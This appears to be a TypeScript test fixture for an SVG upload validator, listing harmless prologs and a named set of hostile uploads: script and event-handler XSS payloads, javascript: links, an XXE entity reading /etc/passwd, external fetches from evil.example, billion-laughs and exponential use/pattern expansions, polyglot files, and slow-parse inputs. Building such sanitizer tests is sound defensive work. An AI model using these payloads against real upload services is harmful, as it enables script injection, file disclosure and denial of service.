const svg = (inside: string, head = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 8 8"${head}>${inside}</svg>`

const DECLARATION = '<?xml version="1.0" encoding="UTF-8" standalone="no"?>'
const DOCTYPE = `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"\n  "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">`

/** What drawing programs write before the root of an SVG. */
export const prologs: Record<string, string> = {
  'a declaration': `${DECLARATION}\n`,
  'a declaration after a byte order mark': `\uFEFF${DECLARATION}\r\n`,
  'a comment': '<!-- Drawn by hand: a > b -->\n',
  'a comment that is longer than most logos': `<!-- ${'The licence of this logo. '.repeat(400)}-->\n`,
  'a document type': `${DOCTYPE}\n`,
  'a document type without an address': '<!DOCTYPE svg>',
  'a document type that has a list of attributes': '<!DOCTYPE svg [\n<!ATTLIST svg onload CDATA "alert(1)">\n]>\n',
  'all of them': `${DECLARATION}\n<!-- One -->\n\n${DOCTYPE}\n<!-- Two --><?x y?>\n  `,
}

/** Twenty elements that are a million, and ten patterns each of which has the one before five times. */
const doubled = Array.from(
  { length: 20 },
  (_, n) => `<g id="a${n + 1}"><use href="#a${n}"/><use xlink:href="#a${n}"/></g>`,
).join('')
const patterned = Array.from(
  { length: 10 },
  (_, n) => `<pattern id="p${n}">${`<rect fill="url(#p${n - 1})"/>`.repeat(5)}</pattern>`,
).join('')

/** A drawing that is allowed, and of which nothing can be drawn. */
export const undrawable = svg('').replace(' viewBox="0 0 8 8"', '')

/** Uploads that want more than to be looked at, or are no pictures. */
export const hostile: Record<string, string | Uint8Array<ArrayBuffer>> = {
  'a width that nobody can show': svg('', ' width="3000000000" height="8"'),
  'a script': svg('<script>alert(1)</script>'),
  'a script in capitals': svg('<SCRIPT>alert(1)</SCRIPT>'),
  'a script of another namespace': svg('<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>'),
  'a script as a character reference': svg('<&#115;cript>alert(1)</script>'),
  'an event of the document': svg('<path d="M0 0"/>', ' onload="alert(1)"'),
  'an event of a shape': svg('<rect onclick="alert(1)" width="8" height="8"/>'),
  'an event in capitals': svg('<rect OnMouseOver="alert(1)" width="8" height="8"/>'),
  'a link that runs': svg('<a href="javascript:alert(1)"><rect width="8" height="8"/></a>'),
  'a use of another file': svg('<use href="https://evil.example/x.svg#a"/>'),
  'a use of data': svg('<use xlink:href="data:image/svg+xml;base64,PHN2Zz4=#a"/>'),
  'a picture of elsewhere': svg('<image href="https://evil.example/pixel.png" width="1" height="1"/>'),
  'a page inside': svg('<foreignObject><iframe src="https://evil.example"/></foreignObject>'),
  'a body of HTML': svg('<foreignObject><body xmlns="http://www.w3.org/1999/xhtml">x</body></foreignObject>'),
  'an animated link': svg('<animate attributeName="href" values="javascript:alert(1)"/>'),
  'a set of an event': svg('<set attributeName="onmouseover" to="alert(1)"/>'),
  'a style that imports': svg('<style>@import url(https://evil.example/a.css);</style>'),
  'a style with an address': svg('<style>rect{fill:url(https://evil.example/a)}</style>'),
  'a style that ends early': svg('<style>&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;</style>'),
  'a style with an escape': svg('<style>rect{fill:\\75rl(x)}</style>'),
  'an attribute with an address': svg('<rect fill="url(https://evil.example/a)" width="8" height="8"/>'),
  'a style attribute with an address': svg('<rect style="fill:url(//evil.example)" width="8" height="8"/>'),
  'an external entity': `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>')}`,
  'a billion laughs': `<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>${svg('<text>&b;</text>')}`,
  'an entity after a declaration and a comment': `${DECLARATION}\n<!-- x -->\n<!DOCTYPE svg [\n<!ENTITY a "]">\n]>\n${svg('<text>&a;</text>')}`,
  'an entity of another file': `<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]>${svg('')}`,
  'a style sheet of elsewhere': `<?xml-stylesheet href="https://evil.example/a.css"?>${svg('')}`,
  'a script after a declaration': `${DECLARATION}\n${svg('<script>alert(1)</script>')}`,
  'a declaration before HTML': `${DECLARATION}\n${DOCTYPE}\n<html><script>alert(1)</script></html>`,
  'a document type that never ends': `<!DOCTYPE svg [ ${svg('')}`,
  'a long document type that never ends': `<!DOCTYPE ${'svg '.repeat(250_000)}`,
  'more elements than a logo has': svg('<g/>'.repeat(6000)),
  'uses that double': svg(`<defs><rect id="a0" width="8" height="8"/>${doubled}</defs><use href="#a20"/>`),
  'patterns of patterns': svg(`<defs>${patterned}</defs><rect fill="url(#p9)" width="8" height="8"/>`),
  'patterns of a style': svg(`<style>rect{fill:url(#p4)}</style><defs>${patterned}</defs>${'<rect/>'.repeat(900)}`),
  'a use of itself': svg('<g id="a"><use href="#a"/></g>'),
  'HTML under the name of a picture': '<!doctype html><script>alert(1)</script>',
  'a program under the name of a picture': new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]),
  'a PDF': '%PDF-1.7\n1 0 obj <</S/JavaScript>>',
  'a GIF that is a script': 'GIF89a=1;alert(1)//',
  'a PNG that is cut off': new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]),
  'a RIFF that is no picture': 'RIFF\0\0\0\0WAVEfmt ',
  nothing: '',
  'comments that end in no picture': `${'<!---->'.repeat(550)}<nothing/>`,
  'text of another encoding': new Uint8Array([0x3c, 0x73, 0x76, 0x67, 0x3e, 0xff, 0xfe]),
}

/** Texts that a careless check would take minutes for. */
export const slow: Record<string, string> = {
  'document types': `<svg>${'<!DOCTYPE '.repeat(100_000)}</svg>`,
  'comments before a picture': `${'<!---->'.repeat(140_000)}${svg('')}`,
  'open comments': `<svg>${'<!--'.repeat(250_000)}</svg>`,
  'elements in each other': svg('<g>'.repeat(100_000)),
  attributes: svg(`<rect ${Array.from({ length: 80_000 }, (_, n) => `a${n}="1"`).join(' ')}/>`),
}
